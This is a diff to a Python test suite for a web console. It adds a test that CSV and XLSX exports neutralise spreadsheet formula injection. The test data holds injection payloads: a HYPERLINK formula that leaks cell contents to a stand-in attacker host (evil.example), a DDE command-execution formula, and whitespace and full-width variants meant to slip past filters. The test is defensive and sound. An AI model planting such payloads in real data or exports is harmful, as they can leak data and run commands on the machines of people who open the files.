@@ -4,15 +4,20 @@ list of routes, so that a new one is attacked too.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import socket
 import time
+import zipfile
 from collections.abc import Iterator
 from html import unescape
+from pathlib import Path
 from typing import Any
 from urllib.parse import quote, urlencode
 
+import openpyxl
 import pytest
 from fastapi import FastAPI
 from fastapi.routing import APIRoute
@@ -21,12 +26,16 @@ from sqlalchemy import func, insert, select, update
 from config.values import Address
 from console.api import mount_api
 from console.board_tokens import add_board_token
+from console.directory import Entry, EntryKind, import_entries
+from console.exports import ExportDesk
 from console.limits import BODY_BYTES, RateLimit
 from console.mounting import WholeMount
 from console.pages import app as pages
 from console.pages.guard import BODY_BYTES as FORM_BYTES
 from console.pages.guard import HEADERS, Guard
+from console.pages.options import RatingsOptions
 from console.pages.shell import BOARD_COOKIE, Console
+from console.passwords import Passwords
 from console.tokens import Scope
 from console.viewer import ConsoleRole
 from models.clock import TurnedClock
@@ -38,7 +47,9 @@ from models.tables import audit, calls, cases, evaluations, messages, metadata, 
 from server.health import HealthServer
 from tests.console.browser import Browser, Page
 from tests.console.conftest import Client, MakeToken
-from tests.console.site import PASSWORD, MakeBrowser, MakeUser, Record
+from tests.console.exported import ask
+from tests.console.site import PASSWORD, QUICK, MakeBrowser, MakeUser, Record
+from tests.console.site import RULES as SESSIONS
 from tests.intake.test_cases import RULES
 from tests.moments import START
 
@@ -418,6 +429,117 @@ def _ids(database: Database) -> list[str]:
         ]
     assert len(found) == 8
     return found
+
+
+# ── what people wrote, in a spreadsheet ───────────────────────────────────────────────────────────────────────────────
+
+FORMULAS = {
+    "link": '=HYPERLINK("http://evil.example/?x="&A1,"zq7")',
+    "command": "=cmd|' /C calc'!A0zq7",
+    "plus": "+1+zq7",
+    "minus": "-1-zq7",
+    "at": "@SUM(1+1)*zq7",
+    "tab": "\t=zq7",
+    "return": "\r=zq7",
+    "line feed": "\n=zq7",
+    "space": " =zq7",
+    "space that is none": "\u00a0=zq7",
+    "full width": "＝zq7",
+    "full-width plus": "＋zq7",
+    "full-width at": "＠zq7",
+    "a cell that ends": 'x",=zq7',
+    "a line that ends": "x\r\n=zq7",
+}
+"""Each becomes an agent and their name, a queue, a department's and a task's name, a case's title, an SMS's words."""
+
+
+@pytest.fixture
+def exporting(
+    door: Door, keyring: Keyring, clock: TurnedClock, database: Database, tmp_path: Path
+) -> Iterator[HealthServer]:
+    """The pages, with exports that a child process really makes."""
+    keyring.save(tmp_path / "keys" / "privacy.key")
+    url = database.url.render_as_string(hide_password=False)
+    desk = ExportDesk(url, str(tmp_path / "keys" / "privacy.key"), reasons={"209": "=zq7"})
+    options = RatingsOptions(exports=desk)
+    console = Console(door, keyring, clock, SESSIONS, "临夏州12345", Passwords(QUICK), ratings=options)
+    app = FastAPI(docs_url=None, redoc_url=None, openapi_url=None)
+    pages.mount_pages(app, console)
+    made = HealthServer(app, Address("127.0.0.1", 0), "console.listen")
+    made.start()
+    yield made
+    made.stop()
+
+
+def test_no_text_is_a_formula_in_a_spreadsheet(exporting: HealthServer, database: Database, user: MakeUser) -> None:
+    entries = []
+    with database.write_engine.begin() as connection:
+        for text in FORMULAS.values():
+            record_of(connection, text)
+            entries.append(Entry(EntryKind.AGENT, text, text, text))
+        import_entries(connection, START, entries, replace=False, actor="command_line")
+    someone = Browser(exporting.address)
+    someone.log_in(user(), PASSWORD)
+    for form in ("csv", "xlsx"):
+        status, _, content = ask(someone, format=form)
+        assert status == 200
+        cells, formulas = cells_of(content, form)
+        assert formulas == [], form
+        for label, text in FORMULAS.items():
+            there = [cell for cell in cells if shown_text(cell) == shown_text(text)]
+            assert len(there) >= 8, f"{label} in {form}: not everywhere, so nothing was looked at"
+
+
+def record_of(connection: Any, text: str) -> None:
+    """A case of which each free text is this one, and its rating."""
+    subject = new_id()
+    common = {"subject_id": subject, "service_number": 1, "dept_name": text, "task_name": text, "created_at": START}
+    connection.execute(insert(cases).values(case_no=f"{text}{subject}", stub=False, title=text, **common))
+    connection.execute(
+        insert(evaluations).values(
+            id=new_id(),
+            rating_id=new_id(),
+            assess_number=1,
+            subject_kind="case",
+            effective=True,
+            satisfaction=1,
+            origin="citizen",
+            channel="sms",
+            assess_time=START,
+            project_no=text,
+            agent=text,
+            queue=text,
+            reasons="209",
+            comment=text,
+            **common,
+        )
+    )
+
+
+STARTS = tuple("=+-@＝＋－＠")
+
+
+def cells_of(content: bytes, form: str) -> tuple[list[str], list[str]]:
+    """The texts of an exported file, and those of them that a spreadsheet would calculate."""
+    if form == "csv":
+        lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+        cells = [cell for line in lines for cell in line]
+        assert len(lines) == len(FORMULAS) + 1, "a text ended its line"
+        return cells, [cell for cell in cells if cell.strip().startswith(STARTS) or cell[:1] in {"\t", "\r", "\n"}]
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    found = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert sheet.max_row == len(FORMULAS) + 1
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        told = b"".join(parts.read(name) for name in parts.namelist() if name.startswith("xl/"))
+    assert b"<f>" not in told
+    assert b"<f " not in told
+    assert b"hyperlink" not in told.lower().replace(b"=hyperlink(", b"")
+    return [str(cell.value) for cell in found], [str(cell.value) for cell in found if cell.data_type == "f"]
+
+
+def shown_text(cell: str) -> str:
+    """Without the apostrophe that says that it is a text, and what an XML file writes for a return."""
+    return re.sub(r"\s", "", cell.replace("_x000D_", "").removeprefix("'"))
 
 
 # ── paths, methods, heads ─────────────────────────────────────────────────────────────────────────────────────────────
